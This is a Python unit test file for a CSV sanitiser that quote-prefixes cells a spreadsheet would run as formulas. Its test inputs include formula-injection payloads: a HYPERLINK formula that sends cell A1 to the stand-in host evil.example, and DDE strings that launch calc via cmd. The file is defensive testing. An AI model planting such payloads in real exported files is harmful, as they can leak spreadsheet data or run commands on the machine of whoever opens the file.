"""Unit tests for hybridcon.core.csvcells: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hybridcon.core.csvcells import FORMULA_TRIGGERS, safe_cell, safe_row


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_triggers_are_prefixed_with_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann Peeters", "ann@example.org", "T-001", "", "1+1", " =1"])
def test_other_text_is_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_none_is_an_empty_cell_and_rows_are_cell_by_cell() -> None:
    assert safe_row(["T-1", None, "=1+1", 3]) == ["T-1", "", "'=1+1", "3"]


@given(st.text())
def test_no_written_cell_starts_with_a_trigger(value: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(safe_row([value]))
    (cell,) = next(csv.reader(io.StringIO(out.getvalue())))
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell in {value, "'" + value}
